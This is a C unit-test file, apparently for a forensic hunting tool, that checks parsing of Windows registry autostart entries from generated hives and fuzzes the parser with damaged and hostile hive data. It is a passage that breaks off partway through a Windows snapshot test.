@@ -1,0 +1,915 @@
+/*
+ * Registry hives: the autostart entries hn_hive_autoruns reads from
+ * SOFTWARE-, SYSTEM- and NTUSER.DAT-like hives written at test time by
+ * tests/tools/mkhive.py (found from this file's path), and its behaviour on
+ * damaged and hostile hives: truncations, bit flips, garbage, huge counts,
+ * shared data cells, bad UTF-16.
+ */
+#include "hunt/hunt.h"
+#include "test.h"
+#include "fixture.h"
+
+#include <fcntl.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+static char scratch[PATH_MAX];
+static char mkhive[PATH_MAX];
+
+/* tests/tools/mkhive.py, next to this file's folder. */
+static void find_mkhive(void)
+{
+    char here[PATH_MAX];
+    pathf(here, "%s", __FILE__);
+    char *slash = strrchr(here, '/');
+    REQUIRE(slash);
+    *slash = '\0'; /* tests/unit */
+    slash = strrchr(here, '/');
+    REQUIRE(slash);
+    *slash = '\0'; /* tests */
+    pathf(mkhive, "%s/tools/mkhive.py", here);
+    REQUIRE(access(mkhive, R_OK) == 0);
+}
+
+/* Run mkhive.py on a JSON spec; the hive's bytes into out. */
+static void make_hive(cr_buf *out, const char *json)
+{
+    static int seq;
+    char spec[PATH_MAX], hive[PATH_MAX], cmd[3 * PATH_MAX + 64];
+    pathf(spec, "%s/spec-%d.json", scratch, seq);
+    pathf(hive, "%s/hive-%d", scratch, seq);
+    seq++;
+    write_at(scratch, strrchr(spec, '/') + 1, json, strlen(json));
+    snprintf(cmd, sizeof(cmd), "python3 '%s' -o '%s' '%s'", mkhive, hive, spec);
+    REQUIRE(system(cmd) == 0);
+    cr_buf_free(out);
+    REQUIRE(cr_fs_read_all(out, AT_FDCWD, hive, 64u << 20) == 0);
+}
+
+static const hn_autorun *find(const hn_autorun *a, size_t n, const char *key, const char *name)
+{
+    for (size_t i = 0; i < n; i++)
+        if (!strcmp(a[i].key, key) && !strcmp(a[i].name, name))
+            return &a[i];
+    return NULL;
+}
+
+/* Valid UTF-8 without C0/C1 control characters. */
+static int clean_utf8(const char *s)
+{
+    const unsigned char *p = (const unsigned char *)s;
+    while (*p) {
+        size_t k;
+        uint32_t cp;
+        if (*p < 0x80) {
+            if (*p < 0x20 || *p == 0x7f)
+                return 0;
+            p++;
+            continue;
+        }
+        if ((*p & 0xe0) == 0xc0)
+            k = 2, cp = *p & 0x1f;
+        else if ((*p & 0xf0) == 0xe0)
+            k = 3, cp = *p & 0x0f;
+        else if ((*p & 0xf8) == 0xf0)
+            k = 4, cp = *p & 0x07;
+        else
+            return 0;
+        for (size_t i = 1; i < k; i++) {
+            if ((p[i] & 0xc0) != 0x80)
+                return 0;
+            cp = cp << 6 | (p[i] & 0x3f);
+        }
+        if ((k == 2 && cp < 0x80) || (k == 3 && cp < 0x800) || (k == 4 && cp < 0x10000) ||
+            cp > 0x10ffff || (cp >= 0xd800 && cp < 0xe000) || (cp >= 0x80 && cp < 0xa0))
+            return 0;
+        p += k;
+    }
+    return 1;
+}
+
+/* Every entry has non-NULL, clean strings and a known kind. */
+static int entries_sane(const hn_autorun *a, size_t n)
+{
+    for (size_t i = 0; i < n; i++) {
+        if (!a[i].key || !a[i].name || !a[i].data || !clean_utf8(a[i].key) ||
+            !clean_utf8(a[i].name) || !clean_utf8(a[i].data) || a[i].kind < HN_AUTORUN_RUN ||
+            a[i].kind > HN_AUTORUN_WINLOGON)
+            return 0;
+    }
+    return 1;
+}
+
+static const char *software_spec =
+    "{\"name\": \"SOFTWARE\", \"keys\": {"
+    " \"Microsoft/Windows/CurrentVersion/Run\": {"
+    "   \"SecurityHealth\": {\"expand\": \"%windir%\\\\system32\\\\SecurityHealthSystray.exe\"},"
+    "   \"Updater\": \"\\\"C:\\\\Users\\\\bob\\\\AppData\\\\Roaming\\\\u.exe\\\" /quiet\","
+    "   \"\": \"C:\\\\default.exe\","
+    "   \"NotAString\": 7, \"Bin\": {\"binary\": \"4100420000\"},"
+    "   \"Multi\": {\"multi\": [\"a.exe\", \"b.exe\"]}},"
+    " \"Microsoft/Windows/CurrentVersion/RunOnce\": {\"Once\": \"once.exe\"},"
+    " \"Microsoft/Windows/CurrentVersion/RunServices\": {\"Svc\": \"rs.exe\"},"
+    " \"Microsoft/Windows/CurrentVersion/Policies/Explorer/Run\": {\"Pol\": \"pol.exe\"},"
+    " \"Microsoft/Windows/CurrentVersion/Explorer\": {\"Run\": \"not-a-run-key.exe\"},"
+    " \"Wow6432Node/Microsoft/Windows/CurrentVersion/Run\": {\"W32\": \"w32.exe\"},"
+    " \"Wow6432Node/Microsoft/Windows/CurrentVersion/RunOnce\": {\"W32Once\": \"w32once.exe\"},"
+    " \"Microsoft/Windows NT/CurrentVersion/Winlogon\": {\"Shell\": \"explorer.exe\","
+    "   \"Userinit\": \"C:\\\\Windows\\\\system32\\\\userinit.exe,\", \"AutoRestartShell\": 1,"
+    "   \"DefaultUserName\": \"alice\"},"
+    " \"Classes/exefile\": {}"
+    "}}";
+
+static void test_software(void)
+{
+    cr_buf b = CR_BUF_INIT;
+    hn_autorun *a = NULL;
+    size_t n = 0;
+    const hn_autorun *e;
+
+    make_hive(&b, software_spec);
+    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
+    CHECK(n == 10);
+    CHECK(entries_sane(a, n));
+    e = find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "SecurityHealth");
+    CHECK(e && e->kind == HN_AUTORUN_RUN &&
+          !strcmp(e->data, "%windir%\\system32\\SecurityHealthSystray.exe"));
+    e = find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "Updater");
+    CHECK(e && !strcmp(e->data, "\"C:\\Users\\bob\\AppData\\Roaming\\u.exe\" /quiet"));
+    e = find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "(Default)");
+    CHECK(e && !strcmp(e->data, "C:\\default.exe"));
+    CHECK(!find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "NotAString"));
+    CHECK(!find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "Bin"));
+    CHECK(!find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "Multi"));
+    e = find(a, n, "Microsoft\\Windows\\CurrentVersion\\RunOnce", "Once");
+    CHECK(e && e->kind == HN_AUTORUN_RUNONCE && !strcmp(e->data, "once.exe"));
+    e = find(a, n, "Microsoft\\Windows\\CurrentVersion\\RunServices", "Svc");
+    CHECK(e && e->kind == HN_AUTORUN_RUN);
+    e = find(a, n, "Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run", "Pol");
+    CHECK(e && e->kind == HN_AUTORUN_RUN && !strcmp(e->data, "pol.exe"));
+    e = find(a, n, "Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\Run", "W32");
+    CHECK(e && e->kind == HN_AUTORUN_RUN);
+    e = find(a, n, "Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce", "W32Once");
+    CHECK(e && e->kind == HN_AUTORUN_RUNONCE);
+    e = find(a, n, "Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Shell");
+    CHECK(e && e->kind == HN_AUTORUN_WINLOGON && !strcmp(e->data, "explorer.exe"));
+    e = find(a, n, "Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Userinit");
+    CHECK(e && !strcmp(e->data, "C:\\Windows\\system32\\userinit.exe,"));
+    CHECK(!find(a, n, "Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "DefaultUserName"));
+    hn_autoruns_free(a, n);
+
+    /* Every subkey list format gives the same entries. */
+    static const char *lists[] = {"lf", "li", "ri"};
+    for (size_t i = 0; i < 3; i++) {
+        char spec[4096];
+        snprintf(spec, sizeof(spec), "{\"lists\": \"%s\", \"ri_chunk\": 1, %s", lists[i],
+                 software_spec + 1);
+        make_hive(&b, spec);
+        a = NULL;
+        n = 0;
+        CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
+        CHECK(n == 10);
+        CHECK(find(a, n, "Microsoft\\Windows\\CurrentVersion\\Run", "Updater") != NULL);
+        hn_autoruns_free(a, n);
+    }
+    cr_buf_free(&b);
+}
+
+static void test_ntuser(void)
+{
+    cr_buf b = CR_BUF_INIT;
+    hn_autorun *a = NULL;
+    size_t n = 0;
+    const hn_autorun *e;
+
+    /* Key names in other cases than Windows' own: found all the same. */
+    make_hive(&b, "{\"name\": \"NTUSER.DAT\", \"keys\": {"
+                  " \"SOFTWARE/microsoft/WINDOWS/currentversion/run\": {"
+                  "   \"OneDrive\": \"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\od.exe /background\"},"
+                  " \"Software/Microsoft/Windows NT/CurrentVersion/Winlogon\": {"
+                  "   \"shell\": \"evil.exe\"},"
+                  " \"Environment\": {\"TEMP\": \"x\"}}}");
+    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
+    CHECK(n == 2);
+    CHECK(entries_sane(a, n));
+    e = find(a, n, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive");
+    CHECK(e && e->kind == HN_AUTORUN_RUN &&
+          !strcmp(e->data, "C:\\Users\\bob\\AppData\\Local\\od.exe /background"));
+    e = find(a, n, "Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Shell");
+    CHECK(e && e->kind == HN_AUTORUN_WINLOGON && !strcmp(e->data, "evil.exe"));
+    hn_autoruns_free(a, n);
+    cr_buf_free(&b);
+}
+
+static void test_system(void)
+{
+    cr_buf b = CR_BUF_INIT;
+    hn_autorun *a = NULL;
+    size_t n = 0;
+    const hn_autorun *e;
+
+    make_hive(&b, "{\"name\": \"SYSTEM\", \"keys\": {"
+                  " \"Select\": {\"Current\": 1, \"Default\": 1, \"LastKnownGood\": 2},"
+                  " \"ControlSet001/Services/Tcpip\": {\"ImagePath\": "
+                  "   {\"expand\": \"System32\\\\drivers\\\\tcpip.sys\"}, \"Start\": 0},"
+                  " \"ControlSet001/Services/Dnscache\": {\"ImagePath\": "
+                  "   {\"expand\": \"%SystemRoot%\\\\system32\\\\svchost.exe -k NetworkService\"}},"
+                  " \"ControlSet001/Services/Dnscache/Parameters\": {\"ServiceDll\": "
+                  "   {\"expand\": \"%SystemRoot%\\\\System32\\\\dnsrslvr.dll\"}},"
+                  " \"ControlSet001/Services/NoImage\": {\"Start\": 3},"
+                  " \"ControlSet001/Services/DwordImage\": {\"ImagePath\": 5},"
+                  " \"ControlSet001/Services/Evil\": {\"ImagePath\": "
+                  "   \"C:\\\\ProgramData\\\\evil.exe\", \"Start\": 2},"
+                  " \"ControlSet002/Services/Tcpip\": {\"ImagePath\": "
+                  "   {\"expand\": \"System32\\\\drivers\\\\tcpip.sys\"}},"
+                  " \"ControlSetX/Services/NotASet\": {\"ImagePath\": \"x.exe\"},"
+                  " \"ControlSet0001/Services/NotASet\": {\"ImagePath\": \"x.exe\"},"
+                  " \"Setup\": {\"CmdLine\": \"\"}}}");
+    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
+    CHECK(n == 4);
+    CHECK(entries_sane(a, n));
+    e = find(a, n, "ControlSet001\\Services\\Tcpip", "Tcpip");
+    CHECK(e && e->kind == HN_AUTORUN_SERVICE && !strcmp(e->data, "System32\\drivers\\tcpip.sys"));
+    e = find(a, n, "ControlSet001\\Services\\Dnscache", "Dnscache");
+    CHECK(e && !strcmp(e->data, "%SystemRoot%\\system32\\svchost.exe -k NetworkService "
+                                "(ServiceDll: %SystemRoot%\\System32\\dnsrslvr.dll)"));
+    e = find(a, n, "ControlSet001\\Services\\Evil", "Evil");
+    CHECK(e && !strcmp(e->data, "C:\\ProgramData\\evil.exe"));
+    CHECK(find(a, n, "ControlSet002\\Services\\Tcpip", "Tcpip") != NULL);
+    CHECK(!find(a, n, "ControlSet001\\Services\\NoImage", "NoImage"));
+    CHECK(!find(a, n, "ControlSet001\\Services\\DwordImage", "DwordImage"));
+    hn_autoruns_free(a, n);
+
+    /* A hive with none of the keys (SAM, SECURITY, an empty one): no entry, no error. */
+    make_hive(&b, "{\"name\": \"SAM\", \"keys\": {\"SAM/Domains/Account\": {\"F\": "
+                  "{\"binary\": \"0102\"}}}}");
+    a = NULL;
+    n = 1;
+    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
+    CHECK(n == 0 && a == NULL);
+    make_hive(&b, "{}");
+    n = 1;
+    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
+    CHECK(n == 0);
+    cr_buf_free(&b);
+}
+
+/* Odd string data: how hn_hive_autoruns decodes it. */
+static void test_strings(void)
+{
+    cr_buf b = CR_BUF_INIT;
+    hn_autorun *a = NULL;
+    size_t n = 0;
+    const hn_autorun *e;
+    const char *run = "Microsoft\\Windows\\CurrentVersion\\Run";
+
+    /* "A" + lone high surrogate + "B"; NUL inside; ESC and newline; an odd last byte;
+     * a pair (U+1F600); a REG_SZ of 40000 bytes (big data, in segments); a REG_SZ
+     * over 64 KiB (skipped); an empty one; a Latin-1 value name. */
+    size_t cap = 300000;
+    char *spec = malloc(cap), *big = malloc(20001);
+    REQUIRE(spec && big);
+    memset(big, 'Q', 20000);
+    big[20000] = '\0';
+    int k = snprintf(spec, cap,
+                     "{\"keys\": {\"Microsoft/Windows/CurrentVersion/Run\": {"
+                     " \"Lone\": {\"type\": 1, \"hex\": \"410000d8420000\"},"
+                     " \"Nul\": {\"type\": 1, \"hex\": \"610000006200\"},"
+                     " \"Ctl\": {\"type\": 2, \"hex\": \"1b005b0031006d000a00780000\"},"
+                     " \"Odd\": {\"type\": 1, \"hex\": \"7800790041\"},"
+                     " \"Pair\": {\"type\": 1, \"hex\": \"3dd800de0000\"},"
+                     " \"Empty\": {\"type\": 1, \"hex\": \"\"},"
+                     " \"\\u00c9t\\u00e9\": \"latin.exe\","
+                     " \"Big\": {\"sz\": \"%s\"},"
+                     " \"Huge\": {\"type\": 1, \"hex\": \"",
+                     big);
+    for (int i = 0; i < 33000; i++)
+        k += snprintf(spec + k, cap - (size_t)k, "4100");
+    snprintf(spec + k, cap - (size_t)k, "\"}}}}");
+    make_hive(&b, spec);
+    free(spec);
+    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
+    CHECK(entries_sane(a, n));
+    e = find(a, n, run, "Lone");
+    CHECK(e && !strcmp(e->data, "A\xef\xbf\xbd" "B"));
+    e = find(a, n, run, "Nul");
+    CHECK(e && !strcmp(e->data, "a"));
+    e = find(a, n, run, "Ctl");
+    CHECK(e && !strcmp(e->data, "?[1m?x"));
+    e = find(a, n, run, "Odd");
+    CHECK(e && !strcmp(e->data, "xy"));
+    e = find(a, n, run, "Pair");
+    CHECK(e && !strcmp(e->data, "\xf0\x9f\x98\x80"));
+    e = find(a, n, run, "Big");
+    CHECK(e && strlen(e->data) == 20000 && !strcmp(e->data, big));
+    CHECK(!find(a, n, run, "Huge"));
+    e = find(a, n, run, "Empty");
+    CHECK(e && !strcmp(e->data, ""));
+    e = find(a, n, run, "\xc3\x89t\xc3\xa9");
+    CHECK(e && !strcmp(e->data, "latin.exe"));
+    CHECK(n == 8);
+    hn_autoruns_free(a, n);
+    free(big);
+    cr_buf_free(&b);
+}
+
+/* Offset of the nk record (after the cell size) of the key named `name`. */
+static size_t find_nk(const cr_buf *b, const char *name)
+{
+    size_t k = strlen(name);
+    for (size_t off = 0x1000; off + 0x50 + k <= b->len; off += 4) {
+        const uint8_t *p = b->ptr + off + 4;
+        if (p[0] == 'n' && p[1] == 'k' && (size_t)(p[0x48] | p[0x49] << 8) == k &&
+            !memcmp(p + 0x4c, name, k))
+            return off + 4;
+    }
+    return 0;
+}
+
+static void put32(uint8_t *p, uint32_t v)
+{
+    p[0] = (uint8_t)v;
+    p[1] = (uint8_t)(v >> 8);
+    p[2] = (uint8_t)(v >> 16);
+    p[3] = (uint8_t)(v >> 24);
+}
+
+static void test_hostile_counts(void)
+{
+    cr_buf b = CR_BUF_INIT;
+    hn_autorun *a = NULL;
+    size_t n = 0;
+    size_t nk;
+
+    make_hive(&b, software_spec);
+    /* The Run key claims 2^31 - 1 values, then 1000 (more than its list holds). */
+    REQUIRE((nk = find_nk(&b, "Run")) != 0);
+    uint32_t keep = b.ptr[nk + 0x24] | (uint32_t)b.ptr[nk + 0x25] << 8;
+    put32(b.ptr + nk + 0x24, 0x7fffffff);
+    n = 1;
+    CHECK(hn_hive_autoruns(&a, &n, b.ptr, b.len) == CR_ECORRUPT && n == 0 && !a);
+    put32(b.ptr + nk + 0x24, 1000);
+    CHECK(hn_hive_autoruns(&a, &n, b.ptr, b.len) == CR_ECORRUPT && n == 0 && !a);
+    put32(b.ptr + nk + 0x24, keep);
+    CHECK_OK(hn_hive_autoruns(&a, &n, b.ptr, b.len));
+    hn_autoruns_free(a, n);
+    /* The root claims 60000 subkeys; then its list points at itself. */
+    REQUIRE((nk = find_nk(&b, "ROOT")) != 0);
+    put32(b.ptr + nk + 0x14, 60000);
+    CHECK(hn_hive_autoruns(&a, &n, b.ptr, b.len) == CR_ECORRUPT && n == 0);
+    put32(b.ptr + nk + 0x14, 2);
+    put32(b.ptr + nk + 0x1c, (uint32_t)(nk - 4 - 0x1000));
+    CHECK(hn_hive_autoruns(&a, &n, b.ptr, b.len) == CR_ECORRUPT && n == 0);
+
+    /* 600 values sharing one data cell of 60000 bytes: 18 MB of strings from a
+     * small hive, over the bound. 500 of them pass. */
+    for (int count = 600; count >= 500; count -= 100) {
+        size_t cap = 200000 + (size_t)count * 64;
+        char *spec = malloc(cap);
+        REQUIRE(spec);
+        int k = snprintf(spec, cap,
+                         "{\"keys\": {\"Microsoft/Windows/CurrentVersion/Run\": {\"v0\": {\"sz\": \"");
+        for (int i = 0; i < 29999; i++)
+            spec[k++] = 'x';
+        k += snprintf(spec + k, cap - (size_t)k, "\"}");
+        for (int i = 1; i < count; i++)
+            k += snprintf(spec + k, cap - (size_t)k, ", \"v%d\": {\"same_as\": \"v0\"}", i);
+        snprintf(spec + k, cap - (size_t)k, "}}}");
+        make_hive(&b, spec);
+        free(spec);
+        CHECK(b.len < 200000);
+        int err = hn_hive_autoruns(&a, &n, b.ptr, b.len);
+        if (count == 600) {
+            CHECK(err == CR_ECORRUPT && n == 0);
+        } else {
+            CHECK(err == 0 && n == 500);
+            hn_autoruns_free(a, n);
+        }
+    }
+    cr_buf_free(&b);
+}
+
+static void test_damaged(void)
+{
+    cr_buf b = CR_BUF_INIT, c = CR_BUF_INIT;
+    hn_autorun *a = NULL;
+    size_t n = 0;
+    int ok = 0, corrupt = 0, other = 0;
+
+    make_hive(&b, software_spec);
+    REQUIRE(b.len >= 0x2000);
+    REQUIRE(cr_buf_grow(&c, b.len) == 0);
+
+    /* Cut anywhere: always damaged, never read in part. */
+    for (size_t cut = 0; cut < b.len; cut += (cut < 0x1100 ? 97 : 61)) {
+        n = 1;
+        int err = hn_hive_autoruns(&a, &n, b.ptr, cut);
+        CHECK(err == CR_ECORRUPT && n == 0 && a == NULL);
+        if (err == 0)
+            hn_autoruns_free(a, n);
+    }
+    /* Any flipped bit of the base block's checked part: damaged. */
+    for (size_t bit = 0; bit < 0x200 * 8; bit += 13) {
+        memcpy(c.ptr, b.ptr, b.len);
+        c.ptr[bit / 8] ^= (uint8_t)(1u << (bit % 8));
+        CHECK(hn_hive_autoruns(&a, &n, c.ptr, b.len) == CR_ECORRUPT);
+    }
+    /* Random bit flips in the bins: read or damaged, never anything else, and
+     * what is read is clean. */
+    for (int round = 0; round < 1500; round++) {
+        uint8_t r[8];
+        memcpy(c.ptr, b.ptr, b.len);
+        fill_random(r, sizeof(r));
+        int flips = 1 + r[0] % 4;
+        for (int f = 0; f < flips; f++) {
+            uint8_t x[4];
+            fill_random(x, sizeof(x));
+            size_t pos = 0x1000 + ((size_t)x[0] << 16 | (size_t)x[1] << 8 | x[2]) % (b.len - 0x1000);
+            c.ptr[pos] ^= (uint8_t)(1u << (x[3] % 8));
+        }
+        int err = hn_hive_autoruns(&a, &n, c.ptr, b.len);
+        if (err == 0) {
+            ok++;
+            CHECK(entries_sane(a, n));
+            hn_autoruns_free(a, n);
+        } else if (err == CR_ECORRUPT) {
+            corrupt++;
+            CHECK(n == 0 && a == NULL);
+        } else {
+            other++;
+        }
+    }
+    CHECK(other == 0);
+    CHECK(ok > 0 && corrupt > 0);
+    printf("bit flips: %d read, %d damaged\n", ok, corrupt);
+
+    /* Random 32-bit words written over cell fields (sizes, counts, offsets). */
+    for (int round = 0; round < 1500; round++) {
+        uint8_t x[8];
+        memcpy(c.ptr, b.ptr, b.len);
+        fill_random(x, sizeof(x));
+        size_t pos = 0x1000 + (((size_t)x[0] << 16 | (size_t)x[1] << 8 | x[2]) %
+                               (b.len - 0x1000)) / 4 * 4;
+        uint32_t v = x[4] & 1 ? (uint32_t)x[5] << 8 | x[6] : (uint32_t)-(int32_t)(x[5] * 8);
+        if (x[7] & 1)
+            v = 0xffffffffu - x[5];
+        put32(c.ptr + pos, v);
+        int err = hn_hive_autoruns(&a, &n, c.ptr, b.len);
+        CHECK(err == 0 || err == CR_ECORRUPT);
+        if (err == 0) {
+            CHECK(entries_sane(a, n));
+            hn_autoruns_free(a, n);
+        }
+    }
+
+    /* Garbage, and things that are not hives. */
+    for (size_t len = 0; len < 0x6000; len += 0x7ff) {
+        uint8_t *g = malloc(len + 1);
+        REQUIRE(g);
+        fill_random(g, len);
+        CHECK(hn_hive_autoruns(&a, &n, g, len) == CR_ECORRUPT);
+        if (len >= 4) {
+            memcpy(g, "regf", 4);
+            CHECK(hn_hive_autoruns(&a, &n, g, len) == CR_ECORRUPT);
+        }
+        free(g);
+    }
+    CHECK(hn_hive_autoruns(&a, &n, "", 0) == CR_ECORRUPT);
+    CHECK(strstr(cr_error_last(), "too small") != NULL);
+    memcpy(c.ptr, b.ptr, b.len);
+    memcpy(c.ptr, "regF", 4);
+    CHECK(hn_hive_autoruns(&a, &n, c.ptr, b.len) == CR_ECORRUPT);
+    CHECK(strstr(cr_error_last(), "not a registry hive") != NULL);
+    /* Trailing bytes after the bins the header announces are ignored. */
+    REQUIRE(cr_buf_grow(&c, b.len + 5000) == 0);
+    memcpy(c.ptr, b.ptr, b.len);
+    memset(c.ptr + b.len, 'Z', 5000);
+    CHECK_OK(hn_hive_autoruns(&a, &n, c.ptr, b.len + 5000));
+    CHECK(n == 10);
+    hn_autoruns_free(a, n);
+    cr_buf_free(&b);
+    cr_buf_free(&c);
+}
+
+/* ------------------------------------------------------------ windows.c */
+
+static int warnings;
+static char last_warning[1024];
+
+static void on_warning(const char *path, const char *message, void *payload)
+{
+    (void)payload;
+    warnings++;
+    snprintf(last_warning, sizeof(last_warning), "%s: %s", path, message);
+}
+
+/* Write a file below dir, creating its folders. */
+static void put_file(const char *dir, const char *rel, const void *data, size_t len)
+{
+    char p[PATH_MAX];
+    join(p, dir, rel);
+    char *slash = strrchr(p, '/');
+    *slash = '\0';
+    REQUIRE(cr_fs_mkdir_p(AT_FDCWD, p, 0755) == 0);
+    write_at(dir, rel, data, len);
+}
+
+static void put_hive(const char *dir, const char *rel, const char *spec)
+{
+    cr_buf b = CR_BUF_INIT;
+    make_hive(&b, spec);
+    put_file(dir, rel, b.ptr, b.len);
+    cr_buf_free(&b);
+}
+
+/* A task file as Windows writes it: UTF-16LE with a byte order mark. */
+static void put_task(const char *dir, const char *rel, const char *actions, const char *extra)
+{
+    char xml[4096];
+    uint8_t u[8192 + 2];
+    int n = snprintf(xml, sizeof(xml),
+                     "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" "
+                     "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n"
+                     "  <RegistrationInfo><URI>\\x</URI>%s</RegistrationInfo>\r\n"
+                     "  <Actions Context=\"Author\">%s</Actions>\r\n</Task>\r\n",
+                     extra, actions);
+    REQUIRE(n > 0 && (size_t)n < sizeof(xml));
+    u[0] = 0xff;
+    u[1] = 0xfe;
+    for (int i = 0; i < n; i++) {
+        u[2 + 2 * i] = (uint8_t)xml[i];
+        u[3 + 2 * i] = 0;
+    }
+    put_file(dir, rel, u, 2 + 2 * (size_t)n);
+}
+
+typedef struct win_run {
+    cr_repo *repo;
+    hn_ctx ctx;
+    cr_finding *prev; /* findings of the previous run (relative paths) */
+    size_t nprev;
+} win_run;
+
+/* Judge `rel` of snapshot s against p (NULL: baseline), as hunt.c would for a changed node. */
+static void judge(win_run *w, const cr_snapshot *p, const cr_snapshot *s, const char *rel)
+{
+    char full[PATH_MAX];
+    cr_node on, nn;
+    int has_old = 0;
+    pathf(full, "%s%s", s->paths[0], rel);
+    REQUIRE(cr_snapshot_lookup(&nn, w->repo, s, full) == 0);
+    if (p && cr_snapshot_lookup(&on, w->repo, p, full) == 0)
+        has_old = 1;
+    size_t first = w->nprev, count = 0;
+    for (size_t i = 0; i < w->nprev; i++)
+        if (!strcmp(w->prev[i].path, rel)) {
+            if (first == w->nprev)
+                first = i;
+            count++;
+        }
+    w->ctx.snap = s;
+    w->ctx.pred = p;
+    w->ctx.baseline = p == NULL;
+    w->ctx.root = s->paths[0];
+    w->ctx.prev = count ? &w->prev[first] : NULL;
+    w->ctx.nprev = count;
+    CHECK_OK(hn_persist_windows(&w->ctx, rel, has_old ? &on : NULL, &nn));
+    cr_node_clear(&nn);
+    if (has_old)
+        cr_node_clear(&on);
+}
+
+/* The findings of this run become the previous ones (grouped by path). */
+static int cmp_path(const void *a, const void *b)
+{
+    return strcmp(((const cr_finding *)a)->path, ((const cr_finding *)b)->path);
+}
+
+static void next_run(win_run *w)
+{
+    if (getenv("CR_TEST_VERBOSE"))
+        for (size_t i = 0; i < w->ctx.nout; i++)
+            fprintf(stderr, "%s %s %s [%s] %s\n", cr_severity_name(w->ctx.out[i].severity),
+                    w->ctx.out[i].path, w->ctx.out[i].indicator,
+                    w->ctx.out[i].evidence ? w->ctx.out[i].evidence : "-", w->ctx.out[i].detail);
+    cr_findings_free(w->prev, w->nprev);
+    w->prev = w->ctx.out;
+    w->nprev = w->ctx.nout;
+    qsort(w->prev, w->nprev, sizeof(*w->prev), cmp_path);
+    w->ctx.out = NULL;
+    w->ctx.nout = w->ctx.capout = 0;
+}
+
+/* The finding on path with indicator (and evidence, unless NULL), or NULL. */
+static const cr_finding *found(const win_run *w, const char *path, const char *ind,
+                               const char *evidence)
+{
+    for (size_t i = 0; i < w->ctx.nout; i++) {
+        const cr_finding *f = &w->ctx.out[i];
+        if (!strcmp(f->path, path) && !strcmp(f->indicator, ind) &&
+            (!evidence || (f->evidence && !strcmp(f->evidence, evidence))))
+            return f;
+    }
+    return NULL;
+}
+
+static size_t count_on(const win_run *w, const char *path, cr_severity min)
+{
+    size_t n = 0;
+    for (size_t i = 0; i < w->ctx.nout; i++)
+        n += !strcmp(w->ctx.out[i].path, path) && w->ctx.out[i].severity >= min;
+    return n;
+}
+
+#define SW "/Windows/System32/config/SOFTWARE"
+#define SY "/Windows/System32/config/SYSTEM"
+#define ALICE "/Users/alice/NTUSER.DAT"
+#define BOB "/Users/bob/NTUSER.DAT"
+#define DEFUSER "/Users/Default/NTUSER.DAT"
+#define STARTUP "/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/"
+#define TASKS "/Windows/System32/Tasks/"
+#define RUNKEY "Microsoft\\Windows\\CurrentVersion\\Run\\"
+#define DEFRAG "<Exec><Command>%windir%\\system32\\defrag.exe</Command><Arguments>-c -h -o -$" \
+               "</Arguments></Exec>"
+
+static const char *default_user_spec =
+    "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/RunOnce\": {"
+    " \"OneDriveSetup\": \"C:\\\\Windows\\\\System32\\\\OneDriveSetup.exe /thfirstsetup\"}}}";
+
+static void test_windows(void)
+{
+    char win[PATH_MAX], vault[PATH_MAX];
+    cr_snapshot *a = NULL, *b = NULL, *c = NULL;
+    cr_backup_options bo = CR_BACKUP_OPTIONS_INIT;
+    const cr_finding *f;
+    win_run w;
+    cr_buf buf = CR_BUF_INIT;
+
+    memset(&w, 0, sizeof(w));
+    pathf(win, "%s/win", scratch);
+    pathf(vault, "%s/vault", scratch);
+    w.repo = fx_vault_new(vault, "pw");
+    w.ctx.repo = w.repo;
+    w.ctx.warning = on_warning;
+    const char *paths[] = {win};
+    bo.source = "ws1";
+    bo.force_read = 1;
+    bo.threads = 1;
+
+    /* Day 1 (baseline): an ordinary workstation. */
+    put_hive(win, "Windows/System32/config/SOFTWARE",
+             "{\"keys\": {\"Microsoft/Windows/CurrentVersion/Run\": {\"SecurityHealth\": "
+             "{\"expand\": \"%windir%\\\\system32\\\\SecurityHealthSystray.exe\"}},"
+             " \"Microsoft/Windows NT/CurrentVersion/Winlogon\": {\"Shell\": \"explorer.exe\","
+             "   \"Userinit\": \"C:\\\\Windows\\\\system32\\\\userinit.exe,\"},"
+             " \"Classes/.txt\": {\"\": \"txtfile\"}}}");
+    put_hive(win, "Windows/System32/config/SYSTEM",
+             "{\"keys\": {\"Select\": {\"Current\": 1}, \"ControlSet001/Services/Tcpip\": "
+             "{\"ImagePath\": {\"expand\": \"System32\\\\drivers\\\\tcpip.sys\"}}}}");
+    put_hive(win, "Users/alice/NTUSER.DAT",
+             "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/Run\": {\"OneDrive\": "
+             "\"\\\"C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Microsoft\\\\OneDrive\\\\"
+             "OneDrive.exe\\\" /background\"}}}");
+    put_hive(win, "Users/Default/NTUSER.DAT", default_user_spec);
+    put_file(win, STARTUP "desktop.ini" + 1, "[.ShellClassInfo]\r\n", 19);
+    put_file(win, STARTUP "Helper.lnk" + 1, "L\0\0\0lnk-v1", 10);
+    put_task(win, TASKS "Microsoft/Windows/Defrag/ScheduledDefrag" + 1, DEFRAG, "");
